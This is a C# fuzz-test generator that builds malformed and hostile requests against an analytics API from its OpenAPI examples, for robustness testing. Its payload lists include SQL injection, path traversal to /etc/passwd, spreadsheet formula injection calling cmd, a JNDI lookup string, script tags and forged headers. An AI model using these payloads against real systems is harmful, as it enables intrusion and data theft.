using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using Analytics.Api.Tests.Infrastructure;

namespace Analytics.Api.Tests.Endpoints.Fuzz;

/// <summary>
/// Hostile requests derived from the served OpenAPI document (issue 17 item 5): each case takes one operation's
/// documented example (path and query parameters, JSON body) and breaks one thing in it: the JSON text (truncated,
/// corrupted, not UTF-8, nested too deep), a value's type, a number (NaN, ±Infinity, 1e308, −0, 5e-324), a string
/// (lone surrogates, NUL, formulas, SQL, path traversal), an array's size, a duplicated key, the content type or its
/// charset, a path or query parameter, a header (oversized, junk), the key or the method. Deterministic for a seed.
/// </summary>
public sealed class HostileRequestGenerator(IReadOnlyList<FuzzOperation> operations, int seed)
{
    private const string RawMarker = "__fuzz_raw__";

    private readonly Random _random = new(seed);

    /// <summary>Raw JSON number tokens, some of them not JSON at all.</summary>
    public static readonly string[] HostileNumbers =
    [
        "NaN", "Infinity", "-Infinity", "1e308", "-1e308", "1e309", "-0", "-0.0", "0", "5e-324", "-5e-324", "4.9e-324",
        "2.2250738585072014e-308", "1e-320", "9007199254740993", "99999999999999999999999999", "-1", "2147483648",
        "-2147483649", "1E+2", "0x10", "01", ".5", "1.", "+1", "1e", "1e-400",
    ];

    /// <summary>Raw JSON string tokens: lone surrogates, control characters, formulas, SQL, traversal, markup, dates.</summary>
    public static readonly string[] HostileStrings =
    [
        "\"\\ud800\"", "\"ETH\\udc00\"", "\"\\ud83d\"", "\"\\udfff\\ud800\"", "\"=cmd|' /C calc'!A0\"", "\"+SUM(1,2)\"",
        "\"-2+3+cmd|' /C calc'!A0\"", "\"@SUM(A1:A9)\"", "\"' OR '1'='1\"", "\"1; DROP TABLE trades;--\"",
        "\"x' UNION SELECT sql FROM sqlite_master--\"", "\"../../../../etc/passwd\"", "\"..\\\\..\\\\windows\\\\win.ini\"",
        "\"\\u0000\"", "\"a\\u0000b\"", "\"\\u001b[31m\"", "\"\\n\\r\\t\"", "\"<script>alert(1)</script>\"",
        "\"${jndi:ldap://example.invalid/a}\"", "\"\\u202eRTL\"", "\"\\ud83d\\udca5\"", "\"\"", "\" \"", "\"%00\"",
        "\"%2e%2e%2f\"", "\"NaN\"", "\"Infinity\"", "\"1e308\"", "\"9999-12-31T23:59:59Z\"", "\"0001-01-01T00:00:00Z\"",
        "\"2026-02-30\"", "\"2026-01-05T25:61:00Z\"", "\"null\"", "\"true\"",
    ];

    /// <summary>Query and path values (as text, escaped when sent).</summary>
    public static readonly string[] HostileParameters =
    [
        "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "..\\..\\windows\\win.ini", "' OR '1'='1", "1; DROP TABLE trades;--",
        "x' UNION SELECT sql FROM sqlite_master--", "=cmd|' /C calc'!A0", "\0", "a\0b", "\u001b[31m", "\ud800", "\udc00x", "<script>",
        "NaN", "Infinity", "-Infinity", "1e308", "-1e308", "-0", "5e-324", "0x10", "-1", "0", "99999999999999999999999999",
        "2147483648", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "2026-02-30", "2026-13-45", "yesterday", "", " ", "null",
        "true", "[]", "{}", "%", "%ZZ", "💥", "\u202e", new string('9', 400), new string('A', 5_000),
    ];

    private static readonly string[] StructuralValues = ["{}", "[]", "null", "true", "false", "\"\"", "[[]]", "{\"a\":1}", "[1,2,3]", "[null]", "0"];

    private static readonly string[] ContentTypes =
    [
        "application/json; charset=bogus", "application/json; charset=utf-16", "application/json; charset=iso-8859-1", "text/plain",
        "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json;;;",
        "application/*", "APPLICATION/JSON", "application/json; charset=\"utf-8\"", "text/csv", "application/x-ndjson",
        "application/json; charset=", "application/octet-stream", "*/*",
    ];

    private static readonly string[] OtherMethods = ["PATCH", "OPTIONS", "TRACE", "PUT", "DELETE", "POST", "GET"];

    private int _index;

    /// <summary><paramref name="count"/> cases, cycling through the operations so each gets its share.</summary>
    public IEnumerable<FuzzCase> Generate(int count)
    {
        for (var i = 0; i < count; i++)
            yield return Next(operations[i % operations.Count]);
    }

    private FuzzCase Next(FuzzOperation operation)
    {
        var index = _index++;
        var kinds = new List<Func<FuzzOperation, int, FuzzCase>>
        {
            QueryParameter, HostileHeader, WrongKeyOrMethod, OtherPath,
        };
        if (operation.Parameters.Any(p => p.In == "path")) kinds.AddRange([PathParameter, PathParameter]);
        if (operation.BodyMediaTypes.Count > 0)
        {
            kinds.AddRange([TruncatedJson, CorruptedJson, WrongType, WrongType, HostileNumber, HostileNumber, HostileString, HostileString,
                HugeArray, DeepNesting, DuplicateKey, MissingOrExtraProperty, WholeBody, ContentType, ContentType]);
            if (operation.BodyMediaTypes.Contains("text/csv")) kinds.AddRange([HostileCsv, HostileNdjson]);
        }
        return kinds[_random.Next(kinds.Count)](operation, index);
    }

    // ---- bodies ------------------------------------------------------------------------------------------------------

    private FuzzCase TruncatedJson(FuzzOperation op, int index)
    {
        var json = ExampleJson(op);
        return JsonCase(op, index, "truncated JSON", json[.._random.Next(json.Length)]);
    }

    private FuzzCase CorruptedJson(FuzzOperation op, int index)
    {
        var json = new StringBuilder(ExampleJson(op));
        var at = _random.Next(json.Length + 1);
        switch (_random.Next(6))
        {
            case 0: json.Insert(at, Pick(["{", "}", "[", "]", ",", ":", "\"", "'", "\\", "/*", "//", "\u0000", ",,"])); break;
            case 1: if (json.Length > 0) json.Remove(Math.Min(at, json.Length - 1), 1); break;
            case 2: json.Append(Pick(["}", "}}}", ",", " trailing", "\n{}", "\u0000"])); break;
            case 3: json.Replace('"', '\''); break;
            case 4: json.Insert(0, "\uFEFF"); break; // a BOM
            default: json.Replace(",", ",,", 0, Math.Max(0, Math.Min(json.Length, at))); break;
        }
        return JsonCase(op, index, "corrupted JSON", json.ToString());
    }

    private FuzzCase WrongType(FuzzOperation op, int index) => ReplaceNode(op, index, "wrong type", Pick(StructuralValues.Concat(["\"text\"", "12345", "-1"]).ToArray()));

    private FuzzCase HostileNumber(FuzzOperation op, int index) => ReplaceNode(op, index, "hostile number", Pick(HostileNumbers), preferNumbers: true);

    private FuzzCase HostileString(FuzzOperation op, int index)
    {
        var value = _random.Next(12) == 0 ? "\"" + new string('A', _random.Next(2) == 0 ? 70_000 : 1_000_000) + "\"" : Pick(HostileStrings);
        return ReplaceNode(op, index, "hostile string", value, preferStrings: true);
    }

    private FuzzCase HugeArray(FuzzOperation op, int index)
    {
        var example = op.JsonBodyExample;
        var firstElement = example is null ? null
            : Nodes(example).Select(n => n.Node).OfType<JsonArray>().FirstOrDefault(a => a.Count > 0)?[0]?.ToJsonString();
        var (element, length) = _random.Next(4) switch
        {
            0 when firstElement is not null => (firstElement, _random.Next(2) == 0 ? 1_000 : 3_000),
            1 => ("null", 100_000),
            2 => ("1e308", 50_000),
            _ => ("0", _random.Next(2) == 0 ? 10_000 : 200_000),
        };
        var array = "[" + string.Join(',', Enumerable.Repeat(element, length)) + "]";
        return ReplaceNode(op, index, $"array of {length}", array, preferArrays: true);
    }

    private FuzzCase DeepNesting(FuzzOperation op, int index)
    {
        var depth = Pick([65, 1_000, 100_000]);
        var nested = _random.Next(2) == 0
            ? new string('[', depth) + new string(']', depth)
            : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
        return _random.Next(3) == 0
            ? JsonCase(op, index, $"nesting {depth} deep", nested)
            : ReplaceNode(op, index, $"nesting {depth} deep", nested);
    }

    private FuzzCase DuplicateKey(FuzzOperation op, int index)
    {
        var example = op.JsonBodyExample;
        var objects = example is null ? [] : Nodes(example).Select(n => n.Node).OfType<JsonObject>().Where(o => o.Count > 0).ToList();
        if (objects.Count == 0) return WholeBody(op, index);
        var target = objects[_random.Next(objects.Count)];
        var (name, value) = target.ElementAt(_random.Next(target.Count));
        var duplicate = _random.Next(2) == 0 ? value?.ToJsonString() ?? "null" : Pick(HostileNumbers.Take(6).Concat(HostileStrings.Take(4)).ToArray());
        var marker = JsonValue.Create(RawMarker)!;
        target["__fuzz_duplicate__"] = marker;
        var json = Serialize(example!).Replace($"\"__fuzz_duplicate__\":\"{RawMarker}\"", $"\"{name}\":{duplicate}", StringComparison.Ordinal);
        target.Remove("__fuzz_duplicate__");
        return JsonCase(op, index, $"duplicate key '{name}'", json);
    }

    private FuzzCase MissingOrExtraProperty(FuzzOperation op, int index)
    {
        var example = op.JsonBodyExample?.DeepClone();
        var objects = example is null ? [] : Nodes(example).Select(n => n.Node).OfType<JsonObject>().ToList();
        if (objects.Count == 0) return WholeBody(op, index);
        var target = objects[_random.Next(objects.Count)];
        string kind;
        if (target.Count > 0 && _random.Next(2) == 0)
        {
            var name = target.ElementAt(_random.Next(target.Count)).Key;
            target.Remove(name);
            kind = $"missing '{name}'";
        }
        else
        {
            target[Pick(["unknownField", "__proto__", "constructor", "$type", "Type", "TYPE", ""])] = JsonNode.Parse(Pick(StructuralValues));
            kind = "extra property";
        }
        return JsonCase(op, index, kind, Serialize(example!));
    }

    private FuzzCase WholeBody(FuzzOperation op, int index)
    {
        var choice = _random.Next(9);
        byte[] bytes = choice switch
        {
            0 => [],
            1 => "null"u8.ToArray(),
            2 => [0xC3, 0x28, 0xA0, 0xA1], // not UTF-8
            3 => Encoding.UTF8.GetBytes("{\"a\":\"").Concat(new byte[] { 0xED, 0xA0, 0x80 }).Concat("\"}"u8.ToArray()).ToArray(), // CESU-8 surrogate
            4 => [0xC0, 0xAF, 0x2E, 0x2E], // overlong
            5 => Encoding.Unicode.GetBytes(ExampleJson(op)), // UTF-16 without saying so
            6 => RandomBytes(_random.Next(1, 2_000)),
            7 => Encoding.UTF8.GetBytes(Pick(StructuralValues)),
            _ => Encoding.UTF8.GetBytes(new string(' ', 10_000)),
        };
        return Case(op, index, $"whole body {choice}", op.ExamplePath() + ExampleQuery(op), "application/json", bytes);
    }

    private FuzzCase ContentType(FuzzOperation op, int index)
    {
        var contentType = _random.Next(8) == 0 ? null : Pick(ContentTypes);
        var body = contentType?.Contains("utf-16", StringComparison.Ordinal) == true
            ? Encoding.Unicode.GetBytes(ExampleJson(op))
            : Encoding.UTF8.GetBytes(ExampleJson(op));
        return Case(op, index, "content type", op.ExamplePath() + ExampleQuery(op), contentType, body);
    }

    private FuzzCase HostileCsv(FuzzOperation op, int index)
    {
        var cell = Pick(HostileParameters);
        var csv = _random.Next(4) switch
        {
            0 => $"underlying,source,timestamp,price\n{Csv(cell)},s,2026-01-05T00:00:00Z,1\n",
            1 => $"date,value\n2026-01-05,{Csv(cell)}\n",
            2 => "a,b\n\"unterminated,1\n",
            _ => string.Join('\n', Enumerable.Range(0, 2_000).Select(i => $"{Csv(cell)},{i},{cell.Length}")),
        };
        var query = _random.Next(2) == 0 ? ExampleQuery(op) : $"?format={Uri.EscapeDataString(Pick(["price-csv", "trades-csv", cell, "deribit-csv"]))}";
        return Case(op, index, "hostile CSV", op.ExamplePath() + query, "text/csv", Encoding.UTF8.GetBytes(csv));
    }

    private FuzzCase HostileNdjson(FuzzOperation op, int index)
    {
        var line = ExampleJson(op).TrimStart('[').TrimEnd(']');
        var lines = new[] { line, "{", Pick(HostileStrings), "{\"underlying\":" + Pick(HostileStrings) + "}", "", "[]", "null" };
        var body = string.Join('\n', Enumerable.Range(0, 1 + _random.Next(20)).Select(_ => Pick(lines)));
        return Case(op, index, "hostile NDJSON", op.ExamplePath() + ExampleQuery(op), "application/x-ndjson", Encoding.UTF8.GetBytes(body));
    }

    // ---- parameters, headers, keys -------------------------------------------------------------------------------------

    private FuzzCase PathParameter(FuzzOperation op, int index)
    {
        // NUL in a path is refused by the test server's client before sending (Kestrel answers it with its own 400).
        var value = Pick(HostileParameters.Where(p => !p.Contains('\0', StringComparison.Ordinal)).ToArray());
        var raw = _random.Next(5) == 0;
        var path = op.ExamplePath(p => raw ? value.Replace("?", "%3F", StringComparison.Ordinal).Replace("#", "%23", StringComparison.Ordinal) : Uri.EscapeDataString(value));
        return Case(op, index, raw ? "raw path parameter" : "path parameter", path + ExampleQuery(op), BodyType(op), ExampleBody(op));
    }

    private FuzzCase QueryParameter(FuzzOperation op, int index)
    {
        var query = op.Parameters.Where(p => p.In == "query" && p.Example is not null)
            .ToDictionary(p => p.Name, p => (string?)Uri.EscapeDataString(p.Example!));
        var names = op.Parameters.Where(p => p.In == "query").Select(p => p.Name).Append("unknown").Append("limit").ToList();
        for (var n = 1 + _random.Next(3); n > 0; n--)
            query[Pick(names.ToArray())] = Uri.EscapeDataString(Pick(HostileParameters));
        var text = string.Join('&', query.Select(q => $"{q.Key}={q.Value}"));
        text = _random.Next(6) switch
        {
            0 => text + "&" + text, // every parameter twice
            1 => text + "&%ZZ=%&&=&" + Uri.EscapeDataString("a\u0000"),
            _ => text,
        };
        return Case(op, index, "query", op.ExamplePath() + "?" + text, BodyType(op), ExampleBody(op));
    }

    private FuzzCase HostileHeader(FuzzOperation op, int index)
    {
        var (name, value) = _random.Next(8) switch
        {
            0 => ("X-Fuzz-Padding", new string('a', Pick([8_192, 40_000, 70_000]))),
            1 => ("X-Request-Id", new string('r', 5_000)),
            2 => ("X-Forwarded-For", Pick(["garbage", "999.999.1.1, ::ffff:zz", new string('1', 3_000), "127.0.0.1, 10.0.0.1, ' OR 1=1"])),
            3 => ("Accept", Pick(["application/xml", "*/*;q=garbage", "text/html", "application/problem+xml", ";;;"])),
            4 => ("Cookie", Pick(["analytics_session=AAAA", "analytics_session=" + new string('A', 4_000), "analytics_antiforgery=../../etc"])),
            5 => ("Origin", Pick(["null", "https://evil.example", "http://127.0.0.1:1", "file://"])),
            6 => ("X-Api-Key", Pick([new string('k', 10_000), "' OR '1'='1", TestKeys.Admin + " ", TestKeys.Admin[..^1]])),
            _ => ("Accept-Encoding", Pick(["gzip;q=x", "br, *;q=-1", new string(',', 1_000)])),
        };
        var key = name == "X-Api-Key" ? null : TestKeys.Admin;
        var path = op.ExamplePath() + ExampleQuery(op);
        var body = ExampleBody(op);
        return new FuzzCase(index, $"header {name}", op.Method, path, key, body is null ? null : BodyType(op), body, [new(name, value)]);
    }

    private FuzzCase WrongKeyOrMethod(FuzzOperation op, int index)
    {
        var path = op.ExamplePath() + ExampleQuery(op);
        if (_random.Next(2) == 0)
        {
            var method = Pick(OtherMethods.Where(m => m != op.Method).ToArray());
            return new FuzzCase(index, "other method", method, path, TestKeys.Admin, BodyType(op), ExampleBody(op), []);
        }
        var key = Pick<string?>([null, TestKeys.Reader, TestKeys.Writer, "wrong-key", ""]);
        return new FuzzCase(index, "other key", op.Method, path, key, BodyType(op), ExampleBody(op), []);
    }

    private FuzzCase OtherPath(FuzzOperation op, int index)
    {
        var suffix = Pick(["/../../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", ".json", "//", "/x", ";a=b", "%2F..%2F", "/" + new string('a', 3_000)]);
        return Case(op, index, "other path", op.ExamplePath() + suffix + ExampleQuery(op), BodyType(op), ExampleBody(op));
    }

    // ---- helpers -------------------------------------------------------------------------------------------------------

    private FuzzCase ReplaceNode(FuzzOperation op, int index, string kind, string rawValue,
        bool preferNumbers = false, bool preferStrings = false, bool preferArrays = false)
    {
        if (op.JsonBodyExample is null) return JsonCase(op, index, kind, rawValue);
        var example = op.JsonBodyExample.DeepClone();
        var candidates = Nodes(example).Where(n => n.Parent is not null).ToList();
        if (candidates.Count == 0) return JsonCase(op, index, kind, rawValue);
        var preferred = candidates.Where(n =>
            (preferNumbers && n.Node is JsonValue v && v.GetValueKind() == System.Text.Json.JsonValueKind.Number)
            || (preferStrings && n.Node is JsonValue s && s.GetValueKind() == System.Text.Json.JsonValueKind.String)
            || (preferArrays && n.Node is JsonArray)).ToList();
        var (parent, key, _) = Choose(preferred.Count > 0 && _random.Next(4) > 0 ? preferred : candidates);
        SetChild(parent!, key, JsonValue.Create(RawMarker));
        var json = Serialize(example).Replace($"\"{RawMarker}\"", rawValue, StringComparison.Ordinal);
        return JsonCase(op, index, $"{kind} at {key}", json);
    }

    private (JsonNode? Parent, object Key, JsonNode? Node) Choose(List<(JsonNode? Parent, object Key, JsonNode? Node)> nodes) => nodes[_random.Next(nodes.Count)];

    private static void SetChild(JsonNode parent, object key, JsonNode? value)
    {
        if (parent is JsonObject o) o[(string)key] = value;
        else ((JsonArray)parent)[(int)key] = value;
    }

    /// <summary>Every node of a tree with its parent and its key (property name or index); the root has no parent.</summary>
    private static IEnumerable<(JsonNode? Parent, object Key, JsonNode? Node)> Nodes(JsonNode root)
    {
        var stack = new Stack<(JsonNode? Parent, object Key, JsonNode? Node)>();
        stack.Push((null, "", root));
        while (stack.Count > 0)
        {
            var entry = stack.Pop();
            yield return entry;
            if (entry.Node is JsonObject o)
                foreach (var (name, child) in o) stack.Push((o, name, child));
            else if (entry.Node is JsonArray a)
                for (var i = 0; i < a.Count; i++) stack.Push((a, i, a[i]));
        }
    }

    private FuzzCase JsonCase(FuzzOperation op, int index, string kind, string json) =>
        Case(op, index, kind, op.ExamplePath() + ExampleQuery(op), "application/json", Encoding.UTF8.GetBytes(json));

    private FuzzCase Case(FuzzOperation op, int index, string kind, string pathAndQuery, string? contentType, byte[]? body) =>
        new(index, kind, op.Method, pathAndQuery, PickKey(), body is null ? null : contentType, body, []);

    /// <summary>Mostly the admin key, so hostile input reaches the handlers; sometimes a lesser role or none.</summary>
    private string? PickKey() => _random.Next(20) switch
    {
        0 => null,
        1 => TestKeys.Reader,
        2 => TestKeys.Writer,
        _ => TestKeys.Admin,
    };

    private static string ExampleJson(FuzzOperation op) => op.JsonBodyExample is null ? "{}" : Serialize(op.JsonBodyExample);

    private static byte[]? ExampleBody(FuzzOperation op) => op.BodyMediaTypes.Count == 0 ? null : Encoding.UTF8.GetBytes(ExampleJson(op));

    private static string? BodyType(FuzzOperation op) => op.BodyMediaTypes.Count == 0 ? null : "application/json";

    private static string ExampleQuery(FuzzOperation op)
    {
        var query = op.Parameters.Where(p => p.In == "query" && p.Example is not null).Select(p => $"{p.Name}={Uri.EscapeDataString(p.Example!)}").ToList();
        return query.Count == 0 ? "" : "?" + string.Join('&', query);
    }

    private static string Serialize(JsonNode node) => node.ToJsonString();

    private static string Csv(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        _random.NextBytes(bytes);
        return bytes;
    }

    private T Pick<T>(T[] values) => values[_random.Next(values.Length)];

    /// <summary>For messages: the seed as the environment variable that replays it.</summary>
    public string Replay => $"FUZZ_SEED={seed.ToString(CultureInfo.InvariantCulture)}";
}
